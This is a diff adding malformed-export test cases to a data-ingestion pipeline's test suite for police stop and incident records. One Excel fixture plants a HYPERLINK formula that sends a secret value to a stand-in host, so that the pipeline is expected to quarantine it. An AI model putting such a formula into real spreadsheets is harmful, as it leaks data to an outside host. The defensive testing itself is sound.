@@ -19,6 +19,7 @@ import json
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
+from typing import Any
 
 from pipelines import samplegen
 
@@ -34,7 +35,8 @@ class Case:
     build: Callable[[Path], list[Path]]
     rejected: str | None = None  # the whole export refused with this error code
     ingested: int | None = ROWS  # data rows counted as read
-    quarantined: dict[int, tuple[str, str | None]] = field(default_factory=dict)  # export row -> (code, field)
+    # export row -> (code, field); "a|b": the row's reasons are exactly these codes
+    quarantined: dict[int, tuple[str, str | None]] = field(default_factory=dict)
     blank_rows: int = 0
     failed_checks: tuple[str, ...] = ()  # blocking checks expected to fail (e.g. quarantine_share)
     pending: str | None = None  # why the outcome is not asserted yet (work owned elsewhere)
@@ -235,6 +237,132 @@ def _empty_file(folder: Path) -> list[Path]:
     return [p]
 
 
+def _extra_column(table: list[list[str]], head: list[str]) -> None:
+    head.append("NOTES")
+    for r in table[1:]:
+        r.append("")
+
+
+def _duplicate_header(table: list[list[str]], head: list[str]) -> None:
+    head.append("RACE")
+    for r in table[1:]:
+        r.append("W")
+
+
+def _missing_column(table: list[list[str]], head: list[str]) -> None:
+    i = head.index("STOP_DATE")
+    for r in table:
+        del r[i]
+
+
+def _header_case(table: list[list[str]], head: list[str]) -> None:
+    head[:] = [f" {h.lower()} " for h in head]
+
+
+def _wide_row(table: list[list[str]], head: list[str]) -> None:
+    table[5][head.index("SUBJ_LAST")] = SECRET
+    table[5] += [""] * 1000
+
+
+def _quoted_newline(table: list[list[str]], head: list[str]) -> None:
+    table[3][head.index("LOCATION")] = "1 MAIN ST\nAPT 2"
+
+
+def _whitespace_row(lines: list[bytes]) -> list[bytes]:
+    width = lines[0].count(b",")
+    return lines[:4] + [b" ," * width + b" "] + lines[4:]
+
+
+def _semicolons(lines: list[bytes]) -> list[bytes]:
+    return [ln.replace(b",", b";") for ln in lines]
+
+
+def _utf16(folder: Path) -> list[Path]:
+    path = _base(folder, "rivertown_stops")
+    path.write_bytes(path.read_bytes().decode("cp1252").encode("utf-16"))
+    return [path]
+
+
+def _gzip(truncate: bool) -> Callable[[Path], list[Path]]:
+    def build(folder: Path) -> list[Path]:
+        import gzip
+
+        path = _base(folder, "rivertown_stops")
+        data = gzip.compress(path.read_bytes())
+        gz = path.with_name(path.name + ".gz")
+        gz.write_bytes(data[: len(data) // 2] if truncate else data)
+        path.unlink()
+        return [gz]
+
+    return build
+
+
+def _jsonl_lines(edit: Callable[[list[str]], None]) -> Callable[[Path], list[Path]]:
+    def build(folder: Path) -> list[Path]:
+        path = _base(folder, "lakeview_stops")
+        lines = path.read_text(encoding="utf-8").splitlines()
+        edit(lines)
+        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+        return [path]
+
+    return build
+
+
+def _jline(line: int, value: str) -> Callable[[list[str]], None]:
+    def edit(lines: list[str]) -> None:
+        lines[line - 1] = value
+
+    return edit
+
+
+def _jdrop(line: int, key: str) -> Callable[[list[dict]], None]:
+    def edit(recs: list[dict]) -> None:
+        recs[line - 1]["subjectLastName"] = SECRET
+        del recs[line - 1][key]
+
+    return edit
+
+
+def _jextra(recs: list[dict]) -> None:
+    recs[4]["subjectLastName"] = SECRET
+    recs[4]["unexpected"] = "x"
+
+
+def _jdup_id(recs: list[dict]) -> None:
+    recs[9]["subjectLastName"] = SECRET
+    recs[9]["stopId"] = recs[8]["stopId"]
+
+
+def _json_array(folder: Path) -> list[Path]:
+    path = _base(folder, "lakeview_stops")
+    recs = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]
+    out = path.with_suffix(".json")
+    out.write_text(json.dumps(recs), encoding="utf-8")
+    path.unlink()
+    return [out]
+
+
+def _xlsx(edit: Callable[[Any], None]) -> Callable[[Path], list[Path]]:
+    def build(folder: Path) -> list[Path]:
+        import openpyxl
+
+        path = _base(folder, "harbor_city_incidents")
+        wb = openpyxl.load_workbook(path)
+        edit(wb.active)
+        wb.save(path)
+        return [path]
+
+    return build
+
+
+def _xlsx_formula(ws: Any) -> None:
+    ws.cell(row=4, column=9).value = '=HYPERLINK("http://x.example/?q=' + SECRET + '")'
+
+
+def _xlsx_bad_date(ws: Any) -> None:
+    ws.cell(row=3, column=2).value = "not a date " + SECRET
+
+
 def renamed(build: Callable[[Path], list[Path]], name: str) -> Callable[[Path], list[Path]]:
     """The export of `build` under another file name."""
 
@@ -244,6 +372,7 @@ def renamed(build: Callable[[Path], list[Path]], name: str) -> Callable[[Path], 
     return b
 
 
+PENDING_REASONS = "issue 16 (agency16): rejection reasons say `missing []` for an extra or duplicate column"
 PENDING_READER = "issue 16 (agency16): per-row read errors with their row number, bounded reading"
 
 CASES: list[Case] = [
@@ -303,6 +432,36 @@ CASES: list[Case] = [
     # whole-export refusals, named with the file and a code
     Case("empty_file", _empty_file, rejected="unknown-export", ingested=None),
     Case("unknown_header", stops_csv(_unknown_header), rejected="unknown-export", ingested=None),
+    # shapes of CSV files
+    Case("extra_column", stops_csv(_extra_column), rejected="unknown-export", ingested=None,
+         pending=PENDING_REASONS),
+    Case("duplicate_header", stops_csv(_duplicate_header), rejected="unknown-export", ingested=None,
+         pending=PENDING_REASONS),
+    Case("missing_column", stops_csv(_missing_column), rejected="unknown-export", ingested=None),
+    Case("header_case_and_spaces", stops_csv(_header_case)),
+    Case("wide_row", stops_csv(_wide_row), quarantined={6: ("extra-cell", None)}),
+    Case("quoted_newline", stops_csv(_quoted_newline)),
+    # a row of spaces is a record without its required key, not a blank row
+    Case("whitespace_row", stops_bytes(_whitespace_row), ingested=ROWS + 1,
+         quarantined={5: ("constraint-error|primary-key", "stop_id")}),
+    Case("semicolons", stops_bytes(_semicolons)),
+    Case("utf16", _utf16),
+    Case("gzip", _gzip(False)),
+    Case("gzip_truncated", _gzip(True), rejected="unknown-export", ingested=None),
+    # shapes of JSON exports
+    Case("jsonl_not_an_object", _jsonl_lines(_jline(5, "[1, 2, 3]")),
+         quarantined={5 + JSONL_ROW_OFFSET: ("invalid-row", None)}),
+    Case("jsonl_nested_value", stops_jsonl(_jset(6, zone={"a": {"b": [1]}}))),
+    Case("jsonl_missing_key", stops_jsonl(_jdrop(7, "stopDateTime")),
+         quarantined={7 + JSONL_ROW_OFFSET: ("constraint-error", "stopDateTime")}),
+    Case("jsonl_extra_key", stops_jsonl(_jextra), rejected="unknown-export", ingested=None, pending=PENDING_REASONS),
+    Case("jsonl_duplicate_id", stops_jsonl(_jdup_id),  # the second record with the key is quarantined
+         quarantined={10 + JSONL_ROW_OFFSET: ("primary-key|unique-error", "stop_id")}),
+    Case("jsonl_blank_lines", _jsonl_lines(lambda lines: lines.insert(3, ""))),
+    Case("json_array", _json_array, rejected="unknown-export", ingested=None),  # Lakeview sends JSON Lines
+    # Excel
+    Case("xlsx_formula", _xlsx(_xlsx_formula), quarantined={4: ("formula-cell", "Victim Name")}),
+    Case("xlsx_bad_date", _xlsx(_xlsx_bad_date), quarantined={3: ("type-error", "reported_at")}),
     # reader-level cases (issue 16)
     Case("cp1252_byte_in_utf8", stops_bytes(_cp1252, utf8=True), quarantined={10: ("encoding-error", "SUBJ_FIRST")},
          pending=PENDING_READER),
